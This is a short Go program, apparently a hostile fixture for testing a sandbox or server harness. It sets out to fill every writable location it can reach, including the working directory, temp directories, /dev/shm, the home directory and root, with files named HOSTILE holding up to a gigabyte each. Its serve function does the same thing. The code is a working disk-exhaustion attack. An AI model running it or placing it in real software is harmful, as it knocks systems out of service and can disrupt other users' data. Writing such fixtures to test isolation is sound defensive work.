package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
)

// The program writes wherever it can, as much as it can.
func main() { fill() }

func serve(ln net.Listener) error {
	fill()
	return nil
}

func fill() {
	block := make([]byte, 1<<20)
	for _, dir := range []string{".", "..", os.TempDir(), "/tmp", "/var/tmp", "/dev/shm", os.Getenv("HOME"), "/"} {
		for i := range 100 {
			f, err := os.Create(filepath.Join(dir, fmt.Sprintf("HOSTILE%d", i)))
			if err != nil {
				break
			}
			for range 1000 {
				if _, err := f.Write(block); err != nil {
					break
				}
			}
			f.Close()
		}
	}
}
